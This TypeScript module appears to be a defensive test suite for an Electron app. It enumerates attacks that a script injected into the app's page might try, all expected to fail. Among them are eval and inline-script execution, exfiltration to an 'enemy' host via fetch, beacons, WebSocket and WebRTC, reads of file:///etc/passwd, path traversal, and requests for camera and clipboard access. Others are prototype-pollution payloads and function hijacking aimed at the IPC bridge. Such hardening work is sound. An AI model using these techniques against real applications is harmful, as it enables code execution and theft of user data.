/* oxlint-disable no-eval, no-new-func, typescript/no-implied-eval, no-extend-native, unicorn/no-thenable -- this is the attack, and it is to fail */

/**
 * What a script does that has got into a page of the app, by name. Each runs in the page, knows
 * nothing of this module, and answers with what it won, or with nothing. `enemy` is an address
 * that should never be reached.
 */
type Attack = (enemy: string) => Promise<string | null> | string | null;

// Ways to turn a text into code.
const code: Record<string, Attack> = {
  eval: () => String((0, eval)('1 + 1')),
  'new Function': () => String(new Function('return 1 + 1')()),
  'a timer with a text': () =>
    new Promise((resolve) => {
      setTimeout('window.evil = "timer"' as never, 0);
      setTimeout(() => resolve((window as never as { evil?: string }).evil ?? null), 50);
    }),
  'an inline script': () => {
    const script = document.createElement('script');
    script.textContent = 'window.evil = "inline script"';
    document.body.append(script);
    return (window as never as { evil?: string }).evil ?? null;
  },
  'an inline handler': () =>
    new Promise((resolve) => {
      const image = document.createElement('img');
      image.setAttribute('onerror', 'window.evil = "inline handler"');
      image.src = 'data:,';
      document.body.append(image);
      setTimeout(() => resolve((window as never as { evil?: string }).evil ?? null), 50);
    }),
  'a script of another address': (enemy) =>
    new Promise((resolve) => {
      const script = document.createElement('script');
      script.src = `${enemy}/evil.js`;
      script.addEventListener('load', () => resolve('loaded'));
      script.addEventListener('error', () => resolve(null));
      document.body.append(script);
    }),
  'import of a data address': () =>
    import(/* @vite-ignore */ String.raw`data:text/javascript,export default 1`).then(() => 'ran'),
  WebAssembly: () =>
    WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(() => 'compiled'),
  'a worker from a blob': () =>
    new Promise((resolve, reject) => {
      const worker = new Worker(URL.createObjectURL(new Blob(['postMessage("worker")'])));
      worker.addEventListener('message', () => resolve('worker'));
      worker.addEventListener('error', () => reject(new Error('refused')));
    }),
  'a service worker': () => navigator.serviceWorker.register('/index.js').then(() => 'registered'),
};

/** Ways to carry something out, or to bring something in. */
const network: Record<string, Attack> = {
  fetch: (enemy) => fetch(enemy, { mode: 'no-cors' }).then(() => 'answered'),
  'XML request': (enemy) =>
    new Promise((resolve) => {
      const request = new XMLHttpRequest();
      request.addEventListener('load', () => resolve('answered'));
      request.addEventListener('error', () => resolve(null));
      request.open('GET', enemy);
      request.send();
    }),
  WebSocket: (enemy) =>
    new Promise((resolve) => {
      const socket = new WebSocket(enemy.replace('http', 'ws'));
      socket.addEventListener('open', () => resolve('open'));
      socket.addEventListener('error', () => resolve(null));
    }),
  EventSource: (enemy) =>
    new Promise((resolve) => {
      const events = new EventSource(enemy);
      events.addEventListener('open', () => resolve('open'));
      events.addEventListener('error', () => resolve(null));
    }),
  // Both answer the same whether or not anything was sent: the enemy counts.
  beacon: (enemy) => {
    navigator.sendBeacon(enemy, 'secret');
    return null;
  },
  'a style with an address': (enemy) => {
    document.body.style.backgroundImage = `url(${enemy}/style.png)`;
    return null;
  },
  'an image': (enemy) =>
    new Promise((resolve) => {
      const image = new Image();
      image.addEventListener('load', () => resolve('loaded'));
      image.addEventListener('error', () => resolve(null));
      image.src = `${enemy}/image.png`;
    }),
  'a form': (enemy) => {
    const form = document.createElement('form');
    form.action = enemy;
    form.method = 'post';
    document.body.append(form);
    form.submit();
    return null;
  },
  WebRTC: async (enemy) => {
    const iceServers = [{ urls: `stun:${new URL(enemy).host}` }];
    const connection = new RTCPeerConnection({ iceServers });
    connection.createDataChannel('evil');
    await connection.setLocalDescription(await connection.createOffer());
    await new Promise((resolve) => setTimeout(resolve, 500));
    return null;
  },
  'a file of the disk': () => fetch('file:///etc/hostname').then((answer) => answer.text()),
  'a file of the disk as an image': () =>
    new Promise((resolve) => {
      const image = new Image();
      image.addEventListener('load', () => resolve('loaded'));
      image.addEventListener('error', () => resolve(null));
      image.src = 'file:///usr/share/pixmaps/debian-logo.png';
    }),
  'a file of the app by going up': () =>
    fetch('standwatch://app/..%2f..%2fpackage.json').then((answer) => answer.text()),
};

/** Ways to another page, another window, a frame. */
const places: Record<string, Attack> = {
  'window.open': (enemy) => (window.open(enemy) === null ? null : 'a window'),
  'window.open of nothing': () => (window.open('about:blank') === null ? null : 'a window'),
  'window.open of a file': () => (window.open('file:///etc/passwd') === null ? null : 'a window'),
  'a link to a new window': (enemy) => {
    const link = document.createElement('a');
    link.href = enemy;
    link.target = '_blank';
    document.body.append(link);
    link.click();
    return null;
  },
  'a download': () => {
    const link = document.createElement('a');
    link.href = URL.createObjectURL(new Blob(['evil']));
    link.download = 'evil.sh';
    document.body.append(link);
    link.click();
    return null;
  },
  'a frame of another address': (enemy) => {
    const frame = document.createElement('iframe');
    frame.src = enemy;
    document.body.append(frame);
    return null;
  },
  'a frame with a bridge of its own': () => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    const inside = frame.contentWindow as unknown as Record<string, unknown> | null;
    return inside?.['agent'] || inside?.['require'] ? 'a bridge' : null;
  },
  'a webview': (enemy) => {
    const view = document.createElement('webview');
    view.setAttribute('src', enemy);
    view.setAttribute('nodeintegration', '');
    document.body.append(view);
    return 'getWebContentsId' in view ? 'a webview' : null;
  },
  'going elsewhere': (enemy) => {
    location.href = enemy;
    return null;
  },
  'going to a file': () => {
    location.href = 'file:///etc/passwd';
    return null;
  },
  'going to a text': () => {
    location.href = 'data:text/html,<script>document.title="evil"</script>';
    return null;
  },
  'going to code': () => {
    location.href = 'javascript:void(document.title = "evil")';
    return null;
  },
  'going to another host of our scheme': () => {
    location.href = 'standwatch://evil/index.html';
    return null;
  },
  'a refresh': (enemy) => {
    const meta = document.createElement('meta');
    meta.httpEquiv = 'refresh';
    meta.content = `0; url=${enemy}`;
    document.head.append(meta);
    return null;
  },
};

/** Ways to something that only a person may allow. */
const permissions: Record<string, Attack> = {
  position: () =>
    new Promise((resolve) => {
      navigator.geolocation.getCurrentPosition(
        () => resolve('a position'),
        () => resolve(null),
      );
    }),
  camera: () => navigator.mediaDevices.getUserMedia({ video: true }).then(() => 'a picture'),
  microphone: () => navigator.mediaDevices.getUserMedia({ audio: true }).then(() => 'a sound'),
  screen: () => navigator.mediaDevices.getDisplayMedia().then(() => 'the screen'),
  clipboard: () => navigator.clipboard.readText().then((text) => `read ${text}`),
  notices: () =>
    Notification.requestPermission().then((given) => (given === 'granted' ? given : null)),
  'lasting storage': () => navigator.storage.persist().then((given) => (given ? 'kept' : null)),
  midi: () => navigator.requestMIDIAccess({ sysex: true }).then(() => 'instruments'),
  devices: async () => {
    const kinds = ['usb', 'hid', 'serial', 'bluetooth'];
    const ask = async (kind: string) => {
      const devices = (navigator as never as Record<string, Record<string, () => unknown>>)[kind];
      await (devices?.['requestDevice'] ?? devices!['requestPort']!)();
      return kind;
    };
    const asked = await Promise.allSettled(kinds.map(ask));
    return kinds.filter((_, nth) => asked[nth]!.status === 'fulfilled').join() || null;
  },
};

/** Ways through the bridge to what lies behind it. */
const bridge: Record<string, Attack> = {
  'the names of Node and Electron': () =>
    ['require', 'process', 'module', 'Buffer', 'global', 'electron', 'ipcRenderer']
      .filter((name) => name in window)
      .join() || null,
  'another bridge in its place': () => {
    const before = window.agent;
    try {
      Object.assign(window, { agent: { state: () => 'evil' } });
    } catch {
      // Refused is as good as ignored.
    }
    return window.agent === before ? null : 'replaced';
  },
  'another function in the bridge': () => {
    const before = window.agent?.signIn;
    try {
      Object.assign(window.agent as object, { signIn: () => 'the password' });
    } catch {
      // As above.
    }
    return window.agent?.signIn === before ? null : 'replaced';
  },
  'more than it should have': () => {
    const known =
      'state onPatch signIn signOut chooseStatus answerLeaving answerHours changeSettings here dismissServerLink lookForUpdate installUpdate retryLink collectDiagnostics quit'.split(
        ' ',
      );
    return (
      Object.keys(window.agent ?? {})
        .filter((name) => !known.includes(name))
        .join() || null
    );
  },
  'a prototype through a setting': async () => {
    const evil: unknown = JSON.parse(
      '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}',
    );
    const answer = await window.agent!.changeSettings(evil as never);
    return 'polluted' in {} || answer.ok ? `accepted: ${JSON.stringify(answer)}` : null;
  },
  'a prototype through a status': async () => {
    const evil: unknown = JSON.parse('{"status":"online","__proto__":{"reason":"evil"}}');
    await window.agent!.chooseStatus(evil as never);
    return 'reason' in {} ? 'polluted' : null;
  },
  'a channel as an argument': async () => {
    const invoke = window.agent!.here as unknown as (...evil: unknown[]) => Promise<unknown>;
    const answer = await invoke('app:quit', { channel: 'agent:state' });
    return JSON.stringify(answer) === '{"ok":true}' ? null : 'something else happened';
  },
  'the sender of a patch': () =>
    new Promise((resolve) => {
      const take = window.agent!.onPatch as unknown as (heard: (...all: unknown[]) => void) => void;
      take((...all) => resolve(all.length === 1 ? null : 'more than the patch'));
      void window.agent!.changeSettings({ closeToTray: false });
      void window.agent!.changeSettings({ closeToTray: true });
    }),
  'the bridge’s own functions by changed prototypes': async () => {
    const won: string[] = [];
    const names = ['call', 'apply', 'bind'] as const;
    const kept = names.map((name) => Function.prototype[name]);
    const then = Promise.prototype.then;
    const look = (self: unknown) => {
      if (typeof self === 'object' && self && ('invoke' in self || 'ipc' in self)) won.push('ipc');
    };
    for (const [nth, name] of names.entries()) {
      Function.prototype[name] = function evil(this: unknown, ...all: unknown[]) {
        for (const one of [this, ...all]) look(one);
        return Reflect.apply(kept[nth]!, this, all);
      } as never;
    }
    Promise.prototype.then = function evil(this: Promise<unknown>, ...all: unknown[]) {
      look(this);
      return Reflect.apply(then, this, all);
    } as never;
    await window.agent!.state();
    for (const [nth, name] of names.entries()) Function.prototype[name] = kept[nth] as never;
    Promise.prototype.then = then;
    return won.join() || null;
  },
};

export const attacks = { code, network, permissions, bridge, places };
